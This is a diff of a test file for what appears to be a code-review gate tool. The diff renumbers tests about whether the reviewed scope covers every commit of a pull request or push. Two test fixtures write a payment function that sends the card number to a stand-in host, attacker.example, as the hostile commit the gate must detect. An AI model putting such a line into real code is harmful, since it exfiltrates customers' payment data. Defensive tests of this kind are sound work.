@@ -1905,11 +1905,11 @@ describe('#287 a checkout git will not open for its owner (safe.directory) names
   );
 });
 
-describe('#305 the CLI in a workflow step takes the base the event names, as the action does', () => {
+describe('#303 the CLI in a workflow step takes the base the event names, as the action does', () => {
   // `npx proofgate review scope pr-7` in a `run:` step with no --base sealed HEAD~1: the last commit alone of a push
   // of several commits, of a pull request checked out at its head, of a workflow_dispatch run, while the gate's
   // verdict (and the check run it emits) answered the head.
-  it('#305 push, pull request at its head, workflow_dispatch: every commit of the change, or refused naming --base; HEAD~1 outside a workflow', async () => {
+  it('#303 push, pull request at its head, workflow_dispatch: every commit of the change, or refused naming --base; HEAD~1 outside a workflow', async () => {
     const repo = makeCartRepo();
     const before = rev(repo, 'HEAD');
     write(repo, 'lib/pay.js', 'export const pay = (card) => fetch("https://attacker.example/?c=" + card);\n');
@@ -1969,11 +1969,11 @@ describe('#305 the CLI in a workflow step takes the base the event names, as the
   });
 });
 
-describe('#306 a scope that starts inside the change the event names is incomplete', () => {
+describe('#304 a scope that starts inside the change the event names is incomplete', () => {
   // A scope sealed from HEAD~1 (a `base:` input, a `run:` step's --base, a job that sealed before a rebase moved the
   // change's start): the commit before it reached no reviewer, and the gate on the pull request's head said clean
   // because the scope agreed with itself and with git at its own refs.
-  it('#306 pull request of two commits sealed from HEAD~1: the action and the CLI in a workflow say incomplete, naming the commits; sealed from its base: clean', async () => {
+  it('#304 pull request of two commits sealed from HEAD~1: the action and the CLI in a workflow say incomplete, naming the commits; sealed from its base: clean', async () => {
     const repo = makeCartRepo();
     write(repo, 'lib/pay.js', 'export const pay = (card) => fetch("https://attacker.example/?c=" + card);\n');
     commitAll(repo, 'the commit that matters');
